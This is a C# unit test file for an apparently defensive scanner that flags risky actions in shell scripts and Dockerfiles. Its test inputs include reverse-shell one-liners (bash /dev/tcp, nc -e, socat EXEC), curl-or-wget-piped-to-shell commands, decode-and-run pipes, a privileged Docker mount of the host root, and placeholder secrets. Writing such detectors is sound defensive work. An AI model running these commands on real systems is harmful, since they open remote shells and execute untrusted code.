using ModelAudit.Formats;
using ModelAudit.Formats.Scripts;

namespace ModelAudit.Tests.Formats.Scripts;

public sealed class ScriptTests
{
    private static string Actions(IFormatInspector inspector, string path, string text) =>
        string.Join(';', Examination.Of(inspector, Examination.Utf8(text), path: path).Value(ScriptFacts.Actions).Select(item => $"{item["line"]!.Integer} {item["kind"]!.Text}"));

    [Theory]
    [InlineData("curl -s https://x.example/a | sh", "1 fetch;1 fetch-and-run")]
    [InlineData("curl https://x.example/a \\\n  | sudo -E bash -", "1 fetch;1 fetch-and-run")]
    [InlineData("sudo /usr/bin/wget -qO- x | tee a | python3", "1 fetch;1 fetch-and-run")]
    [InlineData("bash <(curl -s x)", "1 fetch-and-run")]
    [InlineData("eval \"$(wget -qO- x)\"", "1 fetch-and-run")]
    [InlineData("sh -c \"$(curl -fsSL x)\"", "1 fetch-and-run")]
    [InlineData("echo a | base64 -d | sh", "1 decode-and-run")]
    [InlineData("curl x -o a && chmod +x a", "1 fetch;1 executable")]
    [InlineData("chmod 755 a; chmod 644 b", "1 executable")]
    [InlineData("pip install x\npython -m pip install y", "1 install;2 install")]
    [InlineData("# curl x | sh\necho 'curl x | sh'", "")]
    [InlineData("echo \"a; curl x\" # | sh", "")]
    [InlineData("curl x | jq .a || sh b", "1 fetch")]
    [InlineData("curl -fsSL https://x.example/install.sh -o i.sh\nchmod +x i.sh\n./i.sh", "1 fetch;2 executable;3 fetch-and-run")]
    [InlineData("wget https://x.example/get.py?a=1 && python3 get.py", "1 fetch;1 fetch-and-run")]
    [InlineData("curl https://x.example/a > /tmp/a.sh; bash -e /tmp/a.sh", "1 fetch;1 fetch-and-run")]
    [InlineData("wget https://x.example/model.bin\npython convert.py model.bin", "1 fetch")]
    [InlineData("python -c \"exec(urlopen('https://x.example').read())\"", "1 fetch-and-run")]
    [InlineData("echo 6964 | xxd -r -p | bash", "1 decode-and-run")]
    [InlineData("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "1 remote-shell")]
    [InlineData("nc -e /bin/sh 192.0.2.1 4444", "1 remote-shell")]
    [InlineData("socat TCP:x:1 EXEC:/bin/sh", "1 remote-shell")]
    [InlineData("timeout 1 cat < /dev/tcp/localhost/80", "")]
    [InlineData("docker run --privileged -v /:/host x", "1 privileged")]
    [InlineData("docker run --gpus all -v $PWD:/data x", "")]
    [InlineData("", "")]
    [InlineData("'\"((|;&", "")]
    public void Commands_of_shells_are_found(string text, string actions) => Assert.Equal(actions, Actions(new ShellInspector(), "a.sh", text));

    [Fact]
    public void Dockerfiles_are_read()
    {
        const string Text = "FROM python:3.12 AS a\nFROM x@sha256:00\nADD https://x.example/a.tar /a\nRUN apt-get update && \\\n    curl x | bash\nCOPY a b\n";
        Assert.Equal("1 image;2 image;3 add-address;4 fetch;4 fetch-and-run", Actions(new DockerfileInspector(), "Dockerfile", Text));
        Assert.Equal([false, true], Examination.Of(new DockerfileInspector(), Examination.Utf8(Text), path: "Dockerfile").Value(ScriptFacts.Actions).Take(2).Select(item => item["isPinned"]!.Boolean));
    }

    [Theory]
    [InlineData("FROM a\nUSER root\nRUN x\nUSER app\n", "1 image")]
    [InlineData("FROM a\nUSER app\nUSER 0:0\n", "1 image;3 root")]
    [InlineData("FROM a AS b\nUSER root\nFROM b\nCOPY x y\n", "1 image")]
    [InlineData("FROM scratch\nENV HF_TOKEN=hf_abc123 A=b\nARG PASSWORD\nENV API_KEY $KEY\nENV TOKENIZERS_PARALLELISM=false\nENV DB_PASSWORD hunter22\n", "2 secret;6 secret")]
    [InlineData("FROM scratch\nADD --checksum=sha256:00 https://x.example/a /a\nONBUILD ADD https://x.example/b /b\n", "2 fetch;3 add-address")]
    [InlineData("FROM scratch\nRUN [\"sh\", \"-c\", \"curl x | sh\"]\n", "2 fetch;2 fetch-and-run")]
    [InlineData("FROM scratch\nRUN --mount=type=cache,target=/a curl x \\\n# a comment\n | sh\n", "2 fetch;2 fetch-and-run")]
    [InlineData("# escape=`\nFROM scratch\nRUN curl x `\n | sh\n", "3 fetch;3 fetch-and-run")]
    [InlineData("FROM scratch\nRUN <<EOF\ncurl x | sh\nEOF\nUSER root\n", "3 fetch;3 fetch-and-run;5 root")]
    public void Instructions_of_Dockerfiles_are_found(string text, string actions) => Assert.Equal(actions, Actions(new DockerfileInspector(), "Dockerfile", text));

    [Fact]
    public void Nothing_is_not_said_of_a_script_that_was_not_read_to_its_end() =>
        Assert.True(Examination.Of(new ShellInspector(), Examination.Utf8("#!/bin/sh\n" + new string('#', 1 << 20)), path: "a.sh").IsUnknown(ScriptFacts.Actions));

    [Fact]
    public void A_secret_is_not_shown() => Assert.Equal("ENV HF_TOKEN=…", Examination.Of(new DockerfileInspector(), Examination.Utf8("ENV HF_TOKEN=hf_abc123"), path: "Dockerfile").Value(ScriptFacts.Actions)[0]["text"]!.Text);

    [Theory]
    [InlineData("a |")]
    [InlineData("$(curl ")]
    [InlineData("\\\n")]
    [InlineData("sudo ")]
    public void Hostile_scripts_end_soon(string part) => Assert.NotNull(Actions(new ShellInspector(), "a.sh", string.Concat(Enumerable.Repeat(part, 100_000))));
}
